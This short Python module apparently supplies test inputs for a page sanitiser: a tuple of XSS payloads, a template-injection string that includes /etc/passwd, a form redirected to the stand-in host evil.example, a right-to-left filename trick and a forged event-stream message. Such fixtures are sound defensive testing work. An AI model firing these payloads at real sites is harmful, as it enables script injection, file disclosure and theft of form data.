"""What somebody may write to break a page."""

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</textarea><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>",
    "javascript:alert(1)//<a href=javascript:alert(1)>x</a>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "</li></ol><form action=https://evil.example>",
    "\u202egnp.exe <b>bold</b> &lt;i&gt;",
    "data: x\n\nevent: case\ndata: <b>forged</b>",
    "<template><img src=x onerror=alert(1)></template>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
)
